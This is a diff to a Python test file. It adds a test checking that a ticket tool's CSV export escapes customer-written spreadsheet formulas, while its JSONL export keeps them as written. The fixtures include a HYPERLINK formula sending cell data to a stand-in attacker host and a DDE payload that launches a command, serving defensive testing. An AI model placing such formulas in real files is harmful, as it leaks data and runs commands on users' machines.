@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import sqlite3
 from pathlib import Path
@@ -149,3 +150,28 @@ def test_export_labels_corrections_with_the_label_team_maps_labels(
     assert main(["feedback", "export", "--db", str(db), "--output", str(out)]) == 0
     # Then the row is labelled with the queue model's own label for that team, which it can learn
     assert [json.loads(line)["category"] for line in out.read_text().splitlines()] == ["refunds"]
+
+
+def test_customer_text_that_a_spreadsheet_would_run_is_exported_to_csv_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Given a re-routed ticket whose customer wrote formulas as subject and description
+    db = tmp_path / "decisions.db"
+    repo = SqliteDecisionRepository(db)
+    subject = '=HYPERLINK("https://evil.example/?d="&A1,"Invoice")'
+    description = "@SUM(1+1)*cmd|' /C calc'!A0"
+    repo.save(a_decision("T-1").model_copy(update={"subject": subject, "description": description}))
+    repo.record(Feedback(ticket_id="T-1", correct_team="Technical Support", agent_id="-agent", recorded_at=NOW))
+    repo.close()
+    # When the corrections are exported as CSV, and as JSONL
+    csv_out, jsonl_out = tmp_path / "out.csv", tmp_path / "out.jsonl"
+    assert main(["feedback", "export", "--db", str(db), "--output", str(csv_out)]) == 0
+    assert main(["feedback", "export", "--db", str(db), "--output", str(jsonl_out)]) == 0
+    # Then in the CSV no cell starts a formula: each is text behind an apostrophe
+    with csv_out.open(newline="", encoding="utf-8") as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert (row["subject"], row["description"], row["agent_id"]) == (f"'{subject}", f"'{description}", "'-agent")
+    assert row["team"] == "Technical Support"
+    # And the JSONL, which no spreadsheet opens, keeps the text as written
+    (record,) = [json.loads(line) for line in jsonl_out.read_text().splitlines()]
+    assert (record["subject"], record["description"], record["agent_id"]) == (subject, description, "-agent")
